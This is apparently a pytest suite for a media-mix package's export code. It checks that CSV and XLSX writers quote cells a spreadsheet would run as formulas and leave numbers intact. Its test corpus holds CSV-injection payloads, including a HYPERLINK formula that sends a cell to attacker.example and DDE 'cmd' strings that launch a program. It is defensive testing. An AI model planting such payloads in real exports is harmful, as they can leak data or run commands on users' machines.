"""Formula injection: every export quotes text that a spreadsheet would run, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from mediamix.io.exports import (
    FORMULA_PREFIXES,
    csv_text,
    neutralize_cell,
    neutralize_frame,
    write_csv,
    write_xlsx,
    xlsx_bytes,
)

#: payloads known from the OWASP CSV-injection page and spreadsheet advisories
CORPUS = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x/", A1), "//a")',
    "-",
    "@",
]
SAFE_TEXT = ["tv", "search brand", "a=b", "1+1", "display (>2 days)", ""]


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("payload", CORPUS)
def test_every_payload_is_quoted(payload: str) -> None:
    assert neutralize_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralize_cell(text) == text


def _table() -> pd.DataFrame:
    names = CORPUS + SAFE_TEXT
    return pd.DataFrame(
        {
            "channel": names,
            "spend": [-1.5 * i for i in range(len(names))],
            "periods": list(range(len(names))),
        }
    ).rename(columns={"periods": "=periods"})


def test_csv_quotes_text_and_keeps_numbers(tmp_path: Path) -> None:
    table = _table()
    path = write_csv(table, tmp_path / "t.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["channel", "spend", "'=periods"]
    assert not any(_dangerous(cell) for row in rows for cell in row[:1])
    assert [row[0] for row in body] == ["'" + p for p in CORPUS] + SAFE_TEXT
    # negative numbers are numbers: written as they are, read back as floats
    assert [float(row[1]) for row in body] == table["spend"].tolist()
    assert csv_text(table) == path.read_bytes().decode("utf-8")


def test_xlsx_never_stores_a_formula_and_keeps_numbers(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    table = _table()
    path = write_xlsx({"plan": table, "=evil": table}, tmp_path / "t.xlsx")
    book = load_workbook(path)
    assert book.sheetnames == ["plan", "=evil"]
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(_dangerous(t) for t in texts)
        spend = [sheet.cell(row=r, column=2).value for r in range(2, len(table) + 2)]
        assert spend == table["spend"].tolist()
        assert all(isinstance(v, int | float) for v in spend)


def test_xlsx_bytes_are_stable() -> None:
    table = _table()
    assert xlsx_bytes(table) == xlsx_bytes(table)


def test_numeric_columns_keep_their_dtype() -> None:
    table = _table()
    safe = neutralize_frame(table)
    assert safe["spend"].dtype == table["spend"].dtype
    assert table["channel"].tolist()[0] == CORPUS[0]  # the input is not changed


def test_attribution_and_decomposition_exports_are_neutralized(tmp_path: Path) -> None:
    """The attribution table writer quotes a channel named like a formula."""
    from mediamix.service.attribute import attribute

    paths = pd.DataFrame(
        {
            "path": ["=cmd|' /C calc'!A0 > search", "search", "@SUM(1) > search"],
            "total_conversions": [3, 5, 2],
            "total_null": [4, 6, 1],
        }
    )
    out = tmp_path / "attribution.csv"
    attribute(paths, "linear", out=out)
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert not any(_dangerous(cell) for row in rows for cell in row if not _number(cell))
    assert {"'=cmd|' /C calc'!A0", "'@SUM(1)"} <= {row[0] for row in rows}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
